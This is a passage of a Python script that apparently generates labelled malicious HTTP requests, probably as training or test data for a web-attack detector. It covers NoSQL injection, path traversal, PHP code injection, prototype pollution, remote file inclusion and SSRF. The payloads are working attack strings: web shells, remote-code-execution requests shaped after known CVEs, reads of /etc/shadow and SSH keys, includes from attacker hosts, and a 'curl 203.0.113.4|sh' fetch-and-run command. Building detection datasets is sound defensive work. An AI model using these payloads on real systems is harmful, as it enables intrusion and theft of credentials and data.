    )
    X(
        "POST",
        "/api/xml/mail",
        '<?xml version="1.0"?>\n<mail><from>a@example.com&#13;&#10;Bcc: list@victims.example</from><body>x</body></mail>',
        "a@example.com\r\nBcc: list@victims.example",
        hard=True,
    )
    F(
        "POST",
        "/mail.php",
        [("to", "admin@site.example"), ("subject", PH)],
        "test\r\nContent-Type: multipart/mixed; boundary=evil\r\n\r\n--evil\r\nContent-Type: text/plain\r\n\r\nspam\r\n--evil--",
    )
    F(
        "POST",
        "/tell-a-friend",
        [("friend", PH)],
        "a@example.com,b@example.com,c@example.com\r\nBcc: " + ",".join(f"u{i}@victims.example" for i in range(1, 8)),
    )
    Q("/api/v1/mail/track", "rcpt", "victim@example.org>\r\nRCPT TO:<other@example.org")


def gen_nosqli():
    begin("attack", "nosqli")
    cj = lambda d: json.dumps(d, separators=(",", ":"), ensure_ascii=False)
    QK("/login", "username[$ne]", "x", pre="", post="&password[$ne]=x")
    QK("/api/v1/users", "password[$regex]", "^a.*", pre="username=admin&")
    QK("/api/v1/orders", "user_id[$gt]", "", pre="status=open&")
    QK("/api/v1/products", "price[$where]", "sleep(5000)")
    QK("/api/v1/accounts", "filter[$or][0][role]", "admin", post="&filter[$or][1][role][$ne]=guest")
    QK("/api/v1/session", "token[$exists]", "true")
    QK(
        "/api/v1/login",
        "username[%24ne]",
        "admin",
        raw="username%5B%24ne%5D=admin&password%5B%24ne%5D=admin",
        payload="username[$ne]=admin",
        hard=True,
    )
    QK(
        "/api/v1/users",
        "email[$in][]",
        "admin@shopwave.io",
        raw="email%5B%24in%5D%5B%5D=admin%40shopwave.io",
        hard=True,
    )
    Q("/api/v1/users/search", "q", "'; return true; var x='")
    Q("/api/v1/items", "name", "'; while(true){}; '")
    Q("/api/v1/lookup", "username", "admin' || '1'=='1")
    Q("/api/v1/find", "id", "1; sleep(5000)", raw=fullenc("1; sleep(5000)"), hard=True)
    Q("/api/v1/posts", "author", "a'&&this.password.match(/^a/)//", hard=False)
    Q("/api/v1/filter", "where", "this.role==String.fromCharCode(97,100,109,105,110)", hard=True)
    Q("/api/v1/users", "filter", '{"username":{"$ne":null}}')
    Q(
        "/api/v1/products",
        "q",
        '{"$where": "sleep(3000) || true"}',
        hard=True,
        raw=fullenc('{"$where": "sleep(3000) || true"}'),
    )
    J("POST", "/api/v1/auth/login", {"username": "admin", "password": {"$ne": None}}, cj({"$ne": None}))
    J("POST", "/api/v1/login", {"email": {"$gt": ""}, "password": {"$gt": ""}}, cj({"$gt": ""}))
    J(
        "POST",
        "/api/v1/users/check",
        {"username": {"$regex": "^adm", "$options": "i"}},
        cj({"$regex": "^adm", "$options": "i"}),
    )
    J("POST", "/api/v1/reset", {"token": {"$exists": True}, "password": "newpass123"}, cj({"$exists": True}), hard=True)
    ROWS[-1]["body"] = ROWS[-1]["body"].replace("$exists", "\\u0024exists")
    J("POST", "/api/v2/orders/search", {"customer": {"$nin": []}}, cj({"$nin": []}))
    J(
        "POST",
        "/api/v1/accounts/find",
        {"filter": {"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}},
        cj({"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}),
    )
    J(
        "POST",
        "/api/v1/reports/aggregate",
        {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]},
        cj({"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}),
    )
    J(
        "POST",
        "/api/v1/products/search",
        {"name": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}},
        cj({"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}),
    )
    J(
        "POST",
        "/api/v1/couch/_find",
        {"selector": {"_id": {"$gt": None}}, "fields": ["_id", "password"]},
        cj({"$gt": None}),
    )
    J(
        "POST",
        "/api/v1/auth/login",
        {"username": "admin", "password": {"$ne": "x"}},
        cj({"$ne": "x"}),
        hard=True,
        jraw=None,
    )
    ROWS[-1]["body"] = ROWS[-1]["body"].replace("$ne", "\\u0024ne")
    J("POST", "/api/v1/otp/verify", {"phone": "+15550100", "code": {"$regex": ".*"}}, cj({"$regex": ".*"}))
    J("POST", "/api/v1/users/lookup", {"username": PH}, "admin'||'a'=='a")
    J("POST", "/api/v1/search", {"q": PH}, '"; return db.users.find(); var a="')
    J(
        "POST",
        "/api/v1/auth/login",
        {"username": "admin", "password": {"$in": ["123456", "password", "admin", "letmein"]}},
        cj({"$in": ["123456", "password", "admin", "letmein"]}),
    )
    JK(
        "POST",
        "/api/v1/orders/find",
        {"$where": "this.total > 0 && sleep(5000)"},
        cj({"$where": "this.total > 0 && sleep(5000)"}),
    )
    JK(
        "POST",
        "/api/v1/users/query",
        {"$or": [{"role": "admin"}, {"role": {"$ne": "nobody"}}]},
        cj({"$or": [{"role": "admin"}, {"role": {"$ne": "nobody"}}]}),
    )
    JK(
        "POST",
        "/api/v1/tickets/search",
        {"status": "open", "$where": "function(){ return this['sec'+'ret'].length > 0 }"},
        cj({"$where": "function(){ return this['sec'+'ret'].length > 0 }"}),
        hard=True,
    )
    FK("POST", "/login", [("username[$ne]", "guest"), ("password[$ne]", "guest")], "username[$ne]=guest")
    FK("POST", "/account/recover", [("email[$regex]", ".*@shopwave.io")], "email[$regex]=.*@shopwave.io")
    FK("POST", "/api/v1/signin", [], "password[$gt]=", raw_body="user=admin&password%5B%24gt%5D=", hard=True)
    C("/dashboard", "user", 'j:{"$ne":null}', hard=True)
    C("/api/v1/cart", "cart_filter", '{"owner":{"$gt":""}}', others=["currency=USD"])
    H("GET", "/api/v1/me", "X-User-Id", '{"$ne": null}')
    H("GET", "/api/v1/feature-flags", "X-Tenant", '{"$regex":"^acme"}')
    M("/api/v1/login", [("username", "admin"), ("password[$ne]", "wrong")], "password[$ne]=wrong")
    P("/api/v1/users/{}", "admin'||'1'=='1", raw="admin'%7C%7C'1'=='1")
    P("/api/v1/profiles/{}", '{"$gte":""}', raw="%7B%22%24gte%22%3A%22%22%7D", hard=True)
    X(
        "POST",
        "/api/xml/login",
        '<?xml version="1.0"?>\n<login><user>@@PAYLOAD@@</user><pass>x</pass></login>',
        "admin' || 'a'=='a",
    )


def gen_path_traversal():
    begin("attack", "path_traversal")
    Q("/download", "file", "../../../../etc/passwd")
    Q("/api/v1/files", "path", "....//....//....//etc/passwd", hard=True)
    Q("/image", "name", "..%2f..%2f..%2f..%2fetc%2fpasswd", hard=True)
    Q("/static/view", "f", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", hard=True)
    Q("/api/attachments", "file", "../../../etc/passwd", hard=True, raw="%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")
    Q(
        "/getfile",
        "name",
        "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        hard=True,
        raw="..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
        lit=True,
    )
    Q(
        "/scripts/show.asp",
        "file",
        "..%u2216..%u2216windows%u2216win.ini",
        hard=True,
        raw="..%u2216..%u2216windows%u2216win.ini",
        lit=True,
    )
    Q("/export", "template", "..\\..\\..\\..\\windows\\win.ini")
    Q("/api/v1/avatars", "img", "/etc/passwd\x00.png", hard=True)
    Q("/index.php", "page", "/proc/self/environ")
    Q("/api/v1/docs", "doc", "../../../../../../root/.ssh/id_rsa")
    Q("/view", "lang", "../../../../var/log/nginx/access.log")
    Q("/download.php", "file", "..././..././..././etc/passwd", hard=True)
    Q("/api/v1/preview", "path", "/var/www/uploads/../../../etc/passwd", hard=False)
    Q("/reports/pdf", "name", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", hard=True)
    Q("/api/v1/logs", "file", "..%5c..%5c..%5cwindows%5cwin.ini", hard=True)
    Q("/assets", "f", "php://filter/convert.base64-encode/resource=../config/database.php", hard=True)
    Q("/api/v1/theme", "file", "../../../../proc/self/cwd/app.py")
    Q("/download", "f", "C:\\Windows\\System32\\drivers\\etc\\hosts")
    QK("/api/v1/bundle", "files[../../../../etc/passwd]", "1")
    QK("/api/v1/assets", "include[]", "../../../../../etc/hosts")
    P(
        "/cgi-bin/{}",
        "../../../../bin/sh",
        raw=".%2e/.%2e/.%2e/.%2e/bin/sh",
        hard=True,
        method="POST",
        body="echo;id",
        ctype="text/plain",
    )
    P(
        "/icons/{}",
        ".%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        raw=".%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        hard=True,
        lit=True,
    )
    P("/static/{}", "../../../../etc/passwd", raw="..%2f..%2f..%2f..%2fetc%2fpasswd")
    P("/assets{}", "../etc/passwd", raw="../etc/passwd")
    P("/app/static/{}", "..;/WEB-INF/web.xml", raw="..;/WEB-INF/web.xml", hard=True)
    P("/files/{}", "..\\..\\..\\..\\boot.ini", raw="..%5c..%5c..%5c..%5cboot.ini")
    P(
        "/api/v1/download/{}",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        raw="%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        hard=True,
    )
    P("/{}", "../../../../../../etc/passwd", raw="%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", hard=True)
    J("POST", "/api/v1/files/read", {"path": PH}, "../../../../etc/hosts")
    J("POST", "/api/v1/templates/render", {"template": PH, "data": {}}, "../../../../../../app/.env")
    J("POST", "/api/v1/export", {"format": "pdf", "logo": PH}, "/etc/shadow")
    J("POST", "/api/v1/backups/restore", {"file": PH}, "..\\..\\..\\..\\Windows\\System32\\config\\SAM")
    J(
        "POST",
        "/api/v1/reports/download",
        {"name": PH},
        "../../../../etc/passwd",
        hard=True,
        jraw='"\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/\\u002e\\u002e/etc/passwd"',
    )
    J("PUT", "/api/v1/settings/logo", {"source": PH}, "file:///etc/passwd")
    JK("POST", "/api/v1/archive/extract", {"entries": {PH: "avatar.png"}}, "../../../../var/www/html/shell.php")
    F("POST", "/admin/logs/view", [("log", PH)], "../../../var/log/auth.log")
    F(
        "POST",
        "/api/v1/convert",
        [("input", PH), ("to", "txt")],
        "....\\\\....\\\\....\\\\windows\\\\win.ini",
        hard=True,
    )
    F(
        "POST",
        "/report/load",
        [("file", PH)],
        "/var/www/html/../../../etc/passwd",
        hard=True,
        raw=mixenc("/var/www/html/../../../etc/passwd"),
    )
    H("GET", "/files/download", "X-File-Name", "../../../../../../var/www/.env")
    H("GET", "/api/v1/locale", "Accept-Language", "../../../../../../etc/passwd%00")
    H("GET", "/admin", "X-Original-URL", "/../../../../etc/passwd")
    C("/", "template", "../../../../etc/group", others=["lang=en"])
    C("/index.php", "lang", "../../../../proc/self/environ\x00", hard=True)
    M("/api/v1/upload", [("folder", "avatars"), ("file", PH, "image/png", "PNG...")], "../../../var/www/html/shell.jsp")
    M("/upload.php", [("path", PH), ("file", "a.txt", "text/plain", "x")], "../../../../etc/cron.d/")
    X(
        "POST",
        "/api/xml/files",
        '<?xml version="1.0"?>\n<request><file>@@PAYLOAD@@</file></request>',
        "../../../../etc/shadow",
    )
    X(
        "POST",
        "/services/DocumentService",
        soap("<tns:GetDocument><tns:Path>@@PAYLOAD@@</tns:Path></tns:GetDocument>"),
        "..\\..\\..\\inetpub\\wwwroot\\web.config",
    )


def gen_php_injection():
    begin("attack", "php_injection")
    shell_b64 = b64("<?php system($_GET['cmd']); ?>")
    ser = (
        'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"'
        + "\x00*\x00"
        + 'events";O:15:"Faker\\Generator":1:{s:13:"'
        + "\x00*\x00"
        + 'formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"'
        + "\x00*\x00"
        + 'event";s:2:"id";}'
    )
    Q("/index.php", "page", "<?php system($_GET['c']); ?>")
    Q(
        "/index.php",
        "s",
        "/Index/\\think\\app/invokefunction",
        post="&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    )
    Q("/index.php", "file", "data://text/plain;base64," + shell_b64, hard=True)
    Q("/index.php", "page", "php://input", method="POST")
    Q("/view.php", "file", "expect://id", hard=True)
    Q("/api/calc.php", "expr", "phpinfo();")
    Q("/search.php", "q", "${@system($_GET[c])}")
    Q("/app/debug.php", "x", "{${phpinfo()}}")
    Q("/admin/preview.php", "tpl", "<?=`$_GET[0]`?>", hard=True)
    Q("/cms/index.php", "code", "eval(base64_decode('" + b64("system('id');") + "'));", hard=True)
    Q("/regex.php", "pattern", "/.*/e", post="&replacement=system('id')")
    Q("/cb.php", "fn", "assert", post="&arg=" + enc("system('cat /etc/passwd')"))
    Q(
        "/include.php",
        "page",
        "data:text/plain,<?php phpinfo(); ?>",
        hard=True,
        raw=fullenc("data:text/plain,<?php phpinfo(); ?>"),
    )
    Q("/index.php", "lang", "zip://uploads/avatar.jpg#shell", hard=True)
    QK(
        "/index.php",
        "vars[1][]",
        "cat /etc/passwd",
        pre="s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&",
    )
    QK(
        "/php-cgi/php-cgi.exe",
        "-d allow_url_include=on -d auto_prepend_file=php://input",
        "",
        raw="-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
        payload="-d allow_url_include=on -d auto_prepend_file=php://input",
        method="POST",
        body="<?php system('id'); die(); ?>",
        ctype="text/plain",
    )
    QK(
        "/php-cgi/php-cgi.exe",
        "%ADd allow_url_include=1 %ADd auto_prepend_file=php://input",
        "",
        raw="%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        payload="%ADd allow_url_include=1 %ADd auto_prepend_file=php://input",
        hard=True,
        lit=True,
        method="POST",
        body="<?php echo shell_exec('whoami'); ?>",
        ctype="text/plain",
    )
    P("/index.php/module/action/param1/{}", "${@phpinfo()}", raw="$%7B@phpinfo()%7D")
    P("/api/v1/render/{}", "<?php echo md5('x'); ?>", raw="%3C%3Fphp%20echo%20md5('x')%3B%20%3F%3E")
    J(
        "POST",
        "/_ignition/execute-solution",
        {
            "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
            "parameters": {"variableName": "username", "viewFile": PH},
        },
        "phar://../storage/logs/laravel.log",
    )
    J("POST", "/api/v1/snippets/run", {"lang": "php", "code": PH}, "<?php system('cat /etc/passwd'); ?>")
    J("POST", "/api/v1/plugins/config", {"callback": PH}, "create_function('', 'system(\"id\");')")
    J("POST", "/api/v1/hooks", {"handler": PH}, "\"]);}system('id');/*")
    J("POST", "/api/v1/forms/calc", {"formula": PH}, "<?php $f='sys'.'tem';$f('id');?>", hard=True)
    J("POST", "/api/v1/eval", {"code": PH}, "<?php eval(str_rot13('flfgrz(\"vq\");'));?>", hard=True)
    J(
        "POST",
        "/api/v1/templates",
        {"body": PH},
        "<?php echo chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $c=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $c('id'); ?>",
        hard=True,
    )
    FK(
        "POST",
        "/ajax/render/widget_php",
        [("widgetConfig[code]", "echo shell_exec('id'); exit;")],
        "widgetConfig[code]=echo shell_exec('id'); exit;",
    )
    FK(
        "POST",
        "/user/register",
        [
            ("form_id", "user_register_form"),
            ("_drupal_ajax", "1"),
            ("mail[#post_render][]", "exec"),
            ("mail[#type]", "markup"),
            ("mail[#markup]", "id"),
        ],
        "mail[#post_render][]=exec",
        query="element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
    )
    FK(
        "POST",
        "/index.php",
        [("_method", "__construct"), ("filter[]", "system"), ("method", "get"), ("server[REQUEST_METHOD]", "id")],
        "filter[]=system",
        query="s=captcha",
    )
    F(
        "POST",
        "/admin/theme-editor.php",
        [("file", "footer.php"), ("content", PH)],
        "<?php if(isset($_REQUEST['x'])){echo '<pre>';system($_REQUEST['x']);} ?>",
    )
    F(
        "POST",
        "/guestbook.php",
        [("name", "a"), ("comment", PH)],
        "<script language=\"php\">system('id');</script>",
        hard=True,
    )
    F("POST", "/api/settings.php", [("site_name", PH)], "My Site';system($_GET['c']);//")
    F(
        "POST",
        "/contact.php",
        [("msg", PH)],
        "<?php $s=$_GET['x'];$s('id');?>",
        hard=True,
        raw=mixenc("<?php $s=$_GET['x'];$s('id');?>"),
    )
    H("GET", "/index.php", "User-Agent", "<?php system($_GET['cmd']); ?>")
    H("GET", "/", "Referer", "<?php passthru('id'); ?>")
    H("GET", "/index.php", "X-Forwarded-For", "<?= `id` ?>", hard=True)
    C("/index.php", "PHPSESSID", "<?php phpinfo(); ?>")
    C("/", "remember", b64(ser), hard=True)
    C("/cart.php", "cart", 'O:8:"CartItem":1:{s:4:"file";s:20:"/var/www/html/x.php";}', others=["lang=en"])
    M("/upload.php", [("file", "shell.php.jpg", "image/jpeg", PH)], "GIF89a;<?php system($_GET['c']); ?>", hard=True)
    M(
        "/wp-admin/async-upload.php",
        [("name", "avatar.phtml"), ("async-upload", "avatar.phtml", "image/png", PH)],
        "<?php echo shell_exec($_REQUEST['cmd']); ?>",
    )
    M(
        "/api/v1/import",
        [("file", "data.csv", "text/csv", PH)],
        "name,email\n<?php @eval($_POST['pass']);?>,x@example.com\n",
    )
    X(
        "POST",
        "/xmlrpc.php",
        '<?xml version="1.0"?>\n<methodCall><methodName>test.method</methodName><params><param><value><name>@@PAYLOAD@@</name></value></param></params></methodCall>',
        "','')); echo `id`; exit;/*",
    )
    X(
        "POST",
        "/api/xml/template",
        '<?xml version="1.0"?>\n<template><body><![CDATA[@@PAYLOAD@@]]></body></template>',
        "<?php system('id'); ?>",
    )


def gen_prototype_pollution():
    begin("attack", "prototype_pollution")
    cj = lambda d: json.dumps(d, separators=(",", ":"), ensure_ascii=False)

    def jk(method, path, obj, sub, hard=False, key=True):
        return J(method, path, obj, cj(sub), hard=hard, key=key)

    jk("POST", "/api/v1/users/me/preferences", {"__proto__": {"isAdmin": True}}, {"__proto__": {"isAdmin": True}})
    jk("PUT", "/api/v1/settings", {"theme": "dark", "__proto__": {"role": "admin"}}, {"__proto__": {"role": "admin"}})
    jk(
        "POST",
        "/api/v1/profile",
        {"constructor": {"prototype": {"isAdmin": True}}},
        {"constructor": {"prototype": {"isAdmin": True}}},
    )
    jk(
        "POST",
        "/api/v1/render",
        {
            "name": "x",
            "__proto__": {
                "outputFunctionName": "_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"
            },
        },
        {
            "__proto__": {
                "outputFunctionName": "_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"
            }
        },
    )
    jk(
        "POST",
        "/api/v1/pages/preview",
        {
            "__proto__": {
                "client": 1,
                "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('curl 203.0.113.4|sh')",
            }
        },
        {
            "__proto__": {
                "client": 1,
                "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('curl 203.0.113.4|sh')",
            }
        },
    )
    jk(
        "POST",
        "/api/v1/templates/compile",
        {
            "__proto__": {
                "block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}
            }
        },
        {
            "__proto__": {
                "block": {"type": "Text", "line": "process.mainModule.require('child_process').execSync('id')"}
            }
        },
    )
    jk(
        "POST",
        "/api/v1/jobs",
        {
            "__proto__": {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            }
        },
        {
            "__proto__": {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('id').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            }
        },
    )
    jk("PATCH", "/api/v1/account", {"__proto__": {"status": 510}}, {"__proto__": {"status": 510}})
    jk("POST", "/api/v1/feedback", {"__proto__": {"json spaces": " "}}, {"__proto__": {"json spaces": " "}})
    jk(
        "POST",
        "/api/v1/cart",
        {"items": [], "__proto__": {"exposedHeaders": ["x-pp-probe"]}},
        {"__proto__": {"exposedHeaders": ["x-pp-probe"]}},
        hard=True,
    )
    ROWS[-1]["body"] = ROWS[-1]["body"].replace('"__proto__"', '"\\u005f_proto__"')
    jk(
        "PUT",
        "/api/v1/users/77",
        {"__proto__": {"content-type": "application/json; charset=utf-7"}},
        {"__proto__": {"content-type": "application/json; charset=utf-7"}},
    )
    jk(
        "POST",
        "/api/v1/merge",
        {"a": {"b": {"__proto__": {"polluted": "yes"}}}},
        {"__proto__": {"polluted": "yes"}},
        key=True,
    )
    jk(
        "POST",
        "/api/v1/settings/import",
        {"settings": {"constructor": {"prototype": {"allowUnsafeEval": True}}}},
        {"constructor": {"prototype": {"allowUnsafeEval": True}}},
        key=False,
    )
    jk(
        "POST",
        "/api/v1/widgets",
        {
            "config": [
                {
                    "__proto__": {
                        "sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('id')"
                    }
                }
            ]
        },
        {"__proto__": {"sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('id')"}},
        key=False,
    )
    J(
        "POST",
        "/api/v1/preferences",
        {"__proto__": {"canDelete": True}},
        cj({"__proto__": {"canDelete": True}}),
        hard=True,
        key=True,
    )
    ROWS[-1]["body"] = ROWS[-1]["body"].replace("__proto__", "\\u005f\\u005fproto\\u005f\\u005f")
    J(
        "POST",
        "/api/v1/profile/update",
        {"name": "Ann", "__proto__": {"verified": True}},
        cj({"__proto__": {"verified": True}}),
        hard=True,
        key=True,
    )
    ROWS[-1]["body"] = ROWS[-1]["body"].replace("__proto__", "__pr\\u006fto__")
    jk(
        "POST",
        "/api/v1/notes",
        {"title": "x", "body": LONG_PREFIX[3], "meta": {"tags": ["a"], "__proto__": {"admin": 1}}},
        {"__proto__": {"admin": 1}},
        hard=True,
    )
    jk(
        "POST",
        "/api/v1/graph/merge",
        {"nodes": {"constructor": {"prototype": {"toString": "polluted"}}}},
        {"constructor": {"prototype": {"toString": "polluted"}}},
        key=False,
    )
    QK("/", "__proto__[isAdmin]", "true")
    QK(
        "/search",
        "constructor[prototype][isAdmin]",
        "true",
        pre="q=shoes&",
        raw="%63onstructor%5B%70rototype%5D%5BisAdmin%5D=true",
        hard=True,
    )
    QK("/api/v1/items", "__proto__.polluted", "1")
    QK("/app", "__proto__[innerHTML]", "<img/src/onerror=alert(1)>")
    QK(
        "/",
        "__proto__[outputFunctionName]",
        "_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2",
    )
    QK("/login", "__pro__proto__to__[isAdmin]", "true", hard=True)
    QK("/dashboard", "__proto__[x]", "1", raw="%5F%5Fproto%5F%5F%5Bx%5D=1", hard=True)
    QK("/api/v1/list", "a[0][__proto__][role]", "admin")
    QK("/page", "__proto__[sourceURL]", "\u2028\u2029alert(1)", hard=True)
    QK("/", "constructor.prototype.transport_url", "data:,alert(1)//", hard=False)
    QK("/embed", "__proto__[srcdoc][]", "<script>alert(1)</script>")
    FK("POST", "/api/v1/signup", [("email", "x@example.com"), ("__proto__[admin]", "1")], "__proto__[admin]=1")
    FK(
        "POST",
        "/account/settings",
        [("constructor[prototype][role]", "superuser")],
        "constructor[prototype][role]=superuser",
    )
    FK(
        "POST",
        "/api/v1/forms/submit",
        [],
        "__proto__[json spaces]=10",
        raw_body="name=test&__proto__%5Bjson%20spaces%5D=10",
        hard=True,
    )
    P("/api/v1/settings/{}/isAdmin", "__proto__", method="PUT", body='{"value":true}', ctype="application/json")
    P(
        "/api/v1/config/{}/debug",
        "constructor/prototype",
        raw="constructor/prototype",
        method="PATCH",
        body='{"value":1}',
        ctype="application/json",
    )
    C("/dashboard", "prefs", 'j:{"__proto__":{"isAdmin":true}}', hard=True)
    C(
        "/app",
        "state",
        '{"constructor":{"prototype":{"debug":true}}}',
        others=["lang=en"],
        raw=fullenc('{"constructor":{"prototype":{"debug":true}}}'),
        hard=True,
    )
    H("GET", "/api/v1/me", "X-Client-Context", '{"__proto__":{"isAdmin":true}}')
    H(
        "POST",
        "/api/v1/events",
        "X-Metadata",
        b64('{"__proto__":{"role":"admin"}}'),
        hard=True,
        body='{"type":"click"}',
        ctype="application/json",
    )
    M(
        "/api/v1/upload",
        [("__proto__[role]", "admin"), ("file", "a.png", "image/png", "PNG...")],
        "__proto__[role]=admin",
    )
    M(
        "/api/v1/import/settings",
        [("settings", "settings.json", "application/json", PH)],
        '{"__proto__":{"allowedOrigins":["*"]}}',
    )
    X(
        "POST",
        "/api/v1/xml/profile",
        '<?xml version="1.0"?>\n<profile><name>Ann</name>@@PAYLOAD@@</profile>',
        "<__proto__><isAdmin>true</isAdmin></__proto__>",
    )
    X(
        "POST",
        "/api/v1/xml/import",
        '<?xml version="1.0"?>\n<root>@@PAYLOAD@@</root>',
        "<constructor><prototype><polluted>yes</polluted></prototype></constructor>",
    )


def gen_rfi():
    begin("attack", "rfi")
    Q("/index.php", "page", "http://203.0.113.10/shell.txt?")
    Q("/index.php", "file", "https://pastebin.com/raw/7HxK2mQp")
    Q("/main.php", "include", "ftp://anonymous@198.51.100.7/pub/c99.txt")
    Q("/show.php", "template", "http://evil.example/c99.txt\x00", hard=True)
    Q("/index.php", "lang", "\\\\203.0.113.5\\share\\shell.php", hard=True)
    Q("/view.php", "module", "hTtP://evil.example/r57.txt?", hard=True)
    Q("/page.php", "inc", "//evil.example/shell.txt")
    Q("/index.php", "load", "http:%2f%2f198.51.100.9%2fphp-backdoor.txt%3f", hard=True)
    Q("/index.php", "mosConfig_absolute_path", "http://203.0.113.33/id.txt?", pre="option=com_phpshop&")
    Q("/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php", "url", "http://198.51.100.2/shell.txt")
    Q(
        "/modules/mod_xxx/helper.php",
        "mosConfig_live_site",
        "https://raw.githubusercontent.com/attacker/shells/main/wso.php",
    )
    Q("/index.php", "view", "http://0xcb007105/x.txt", hard=True)
    Q("/page", "src", "data://text/plain;base64," + b64("<?php echo shell_exec($_GET['c']); ?>"), hard=True)
    Q(
        "/template.php",
        "skin",
        "https://evil.example/s.php%00",
        hard=True,
        raw="https%3A%2F%2Fevil.example%2Fs.php%2500",
    )
    Q("/api/v1/plugins/load", "url", "https://cdn.evil.example/payload.js")
    Q("/index.php", "theme", "phar://uploads/avatar.jpg/shell.php", hard=True)
    Q(
        "/cms/page.php",
        "doc",
        "http://203.0.113.66:8080/backdoor.inc",
        raw=fullenc("http://203.0.113.66:8080/backdoor.inc"),
        hard=True,
    )
    QK("/index.php", "_CONF[path]", "http://203.0.113.21/inc.txt?")
    QK("/index.php", "GLOBALS[includes_dir]", "http://evil.example/sh.txt?")
    P("/index.php/page/{}", "http://evil.example/shell.txt", raw="http:%2F%2Fevil.example%2Fshell.txt")
    P("/include/{}", "https://203.0.113.40/x.php", raw="https%3A%2F%2F203.0.113.40%2Fx.php")
    J("POST", "/api/v1/themes/install", {"source_url": PH, "activate": True}, "http://203.0.113.41/theme/functions.php")
    J("POST", "/api/v1/plugins", {"name": "seo", "manifest": PH}, "https://evil.example/plugin.php?")
    J("POST", "/api/v1/templates/render", {"template": PH}, "http://198.51.100.71/tpl/evil.tpl")
    J("POST", "/api/v1/render", {"layout": PH}, "ftp://198.51.100.8/layout.php")
    J("POST", "/api/v1/pages", {"include": PH}, "HTTP://EVIL.EXAMPLE/SHELL.TXT", hard=True)
    J(
        "POST",
        "/api/v1/widgets",
        {"script": PH},
        "http://evil.example/w.php",
        hard=True,
        jraw='"http:\\/\\/evil.example\\/w.php"',
    )
    J("PUT", "/api/v1/config", {"custom_header": PH}, "expect://curl http://203.0.113.8/x|sh", hard=True)
    JK("POST", "/api/v1/loader", {"modules": {PH: True}}, "http://203.0.113.45/mod.php")
    F("POST", "/admin/include.php", [("file", PH)], "http://203.0.113.10/r57.txt?")
    F("POST", "/index.php", [("page", PH)], "php://input", hard=True)
    F("POST", "/setup.php", [("config_path", PH)], "https://evil.example/config.txt")
    F(
        "POST",
        "/settings/template",
        [("tpl", PH)],
        "\\\\198.51.100.12\\tpl\\x.php",
        hard=True,
        raw=mixenc("\\\\198.51.100.12\\tpl\\x.php"),
    )
    H("GET", "/index.php", "X-Include-Path", "http://203.0.113.10/shell.txt")
    H("GET", "/page.php", "Referer", "http://evil.example/shell.txt?")
    C("/index.php", "lang", "http://203.0.113.10/lang.txt?", others=["PHPSESSID=" + rhex(26)])
    C("/", "style", "//evil.example/style.php", hard=False)
    C("/portal/", "template", "https://evil.example/t.php%00", raw="https%3A%2F%2Fevil.example%2Ft.php%2500", hard=True)
    M("/admin/import", [("source", PH), ("file", "empty.txt", "text/plain", "")], "http://203.0.113.17/import.php")
    M("/api/v1/themes", [("theme_url", PH)], "https://evil.example/theme.zip#shell.php")
    X(
        "POST",
        "/api/xml/include",
        '<?xml version="1.0"?>\n<page><include>@@PAYLOAD@@</include></page>',
        "http://203.0.113.10/inc/config.txt?",
    )
    X(
        "POST",
        "/services/Portal",
        soap("<tns:LoadModule><tns:Url>@@PAYLOAD@@</tns:Url></tns:LoadModule>"),
        "ftp://198.51.100.7/mod.php",
    )


def gen_ssrf():
    begin("attack", "ssrf")
    Q("/api/v1/fetch", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    Q(
        "/proxy",
        "u",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        post="&headers=Metadata-Flavor:Google",
    )
    Q("/api/v1/preview", "link", "http://127.0.0.1:6379/")
    Q(
        "/api/image-proxy",
        "src",
